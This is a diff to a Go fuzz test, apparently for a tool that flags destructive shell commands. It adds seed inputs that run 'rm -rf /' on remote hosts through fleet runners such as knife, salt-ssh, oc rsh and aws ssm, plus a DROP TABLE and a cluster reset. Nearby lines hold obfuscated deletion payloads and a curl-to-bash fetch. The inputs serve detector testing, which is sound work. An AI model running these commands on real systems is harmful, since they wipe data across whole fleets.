@@ -23,6 +23,10 @@ func FuzzAnalyze(f *testing.F) {
 		"docker run -v a:/b -v :/c -v /d --entrypoint sh x -c 'docker run -v /:/x y rm -rf /x'", "rm -rf $(pwd)/`pwd -P`",
 		"gcloud compute ssh h --command 'rm -rf /'", "aws-vault exec p -- sudo rm -rf /", "hcloud server ssh h -- rm -rf /",
 		"az vm run-command invoke -n h --scripts 'rm -rf /'", "aws ec2 terminate-instances help",
+		// The fleet and cluster runners of the ecosystem pass.
+		"fab -H a,b -- rm -rf /", "knife ssh 'name:*' 'rm -rf /' -x u", "mco shell run 'rm -rf /'", "rd adhoc -p p -F x -- rm -rf /",
+		"salt-ssh -i '*' cmd.run 'rm -rf /'", "oc rsh -n x p rm -rf /", "nomad alloc exec -task t a rm -rf /",
+		"aws ssm send-command --parameters commands='rm -rf /' --targets x", "bq query --dry_run 'DROP TABLE a.b'", "k3s server --cluster-reset",
 		// Computed output, code belay cannot see, and the wrappers of #15.
 		"echo cm0gLXJmIC8K | base64 -d | sh", "echo 726d | xxd -r -p | rev | tr a-z A-Z | sh",
 		"printf '%b' '\\x72m' | gunzip | sh", "bash <(curl -s https://x)", ". /dev/stdin <<< 'rm -rf /'",
